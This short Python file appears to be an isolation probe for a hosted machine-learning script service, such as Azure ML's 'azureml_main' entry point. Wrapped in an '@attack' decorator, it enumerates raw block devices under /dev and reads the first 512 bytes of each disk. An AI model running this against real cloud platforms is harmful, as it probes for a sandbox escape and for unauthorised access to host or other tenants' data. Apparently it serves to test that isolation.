"""Reads the disk on which everything lies."""

import glob
import os

from attack import attack, every, read


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    kinds = ("vd", "sd", "xvd", "nvme", "dm-", "loop", "mmcblk")
    disks = [path for path in glob.glob("/dev/*") if os.path.basename(path).startswith(kinds)]
    return every(lambda path: read(path, 512), disks)
